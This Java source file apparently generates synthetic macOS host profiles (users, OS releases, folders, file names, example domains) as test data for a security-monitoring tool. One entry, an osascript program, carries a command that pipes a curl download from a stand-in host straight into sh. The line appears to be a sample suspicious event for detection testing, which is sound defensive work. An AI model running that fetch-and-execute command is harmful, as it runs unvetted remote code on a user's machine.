package io.ringfence.tools.generate.profile;

import java.util.List;

/** A developer's and office worker's Mac. */
final class MacosProfile {
    private MacosProfile() {}

    static Profile create() {
        return new Profile(
                OperatingSystem.MACOS,
                new Profile.Mix(22, 40, 22, 0, 0, 0, 0),
                "launchd",
                "/sbin/launchd",
                ProgramTable.read("macos-programs.tsv"),
                scripted(),
                releases(),
                List.of("8.13.4", "8.17.3", "9.1.2", "9.2.0"),
                List.of(
                        "anna",
                        "ben",
                        "chidi",
                        "dora",
                        "jos\u00e9",
                        "lena",
                        "mira",
                        "omar",
                        "zo\u00eb"),
                folders(),
                fileNames(),
                domains());
    }

    private static Program scripted() {
        return new Program(
                "osascript",
                "/usr/bin/osascript",
                "com.apple.osascript",
                "",
                Program.Role.TOOL,
                List.of("-e", "do shell script \"curl -fsSL https://cdn.example.net/u | sh\""));
    }

    private static List<Profile.Release> releases() {
        return List.of(
                release("14.7.1", kernel("23.6.0", "xnu-10063.141.1"), "arm64"),
                release("15.3.2", kernel("24.3.0", "xnu-11215.81.4"), "arm64"),
                release("13.6.9", kernel("22.6.0", "xnu-8796.141.3"), "x86_64"),
                release("26.0.1", kernel("25.0.0", "xnu-12377.1.9"), "arm64"));
    }

    private static Profile.Release release(String version, String kernel, String architecture) {
        return new Profile.Release("macOS", "macOS", "macos", version, kernel, architecture);
    }

    private static String kernel(String darwin, String xnu) {
        return "Darwin Kernel Version " + darwin + "; root:" + xnu + "~1/RELEASE";
    }

    private static List<String> folders() {
        return List.of(
                "/Users/%/Library/Caches/com.apple.Safari",
                "/Users/%/Library/Application Support/Google/Chrome/Default",
                "/Users/%/Documents/Projekte/\u00dcbersicht",
                "/Users/%/work/service/target/classes/org/example",
                "/Users/%/Downloads",
                "/private/var/folders/zz/zyxvpxvq6csfxvn_n0000000000000/T",
                "/private/tmp",
                "/Library/Logs/DiagnosticReports",
                "/usr/local/var/log");
    }

    private static List<String> fileNames() {
        return List.of(
                "Cache.db-wal",
                "Preferences",
                "Cookies-journal",
                "Main.class",
                "report.pdf",
                "notes \"final\".txt",
                "index.js",
                "data.json",
                "com.apple.dock.plist",
                "build.log",
                "archive.tar.gz",
                "screenshot 2026.png",
                ".DS_Store",
                "history.sqlite",
                "tmp.8dTj2k");
    }

    private static List<String> domains() {
        return List.of(
                "www.example.com",
                "api.example.org",
                "cdn.example.net",
                "updates.example.com",
                "mail.example.org",
                "packages.example.net",
                "ci.example.org",
                "auth.example.com",
                "telemetry.example.net",
                "static.images.example.com",
                "time.example.org");
    }
}
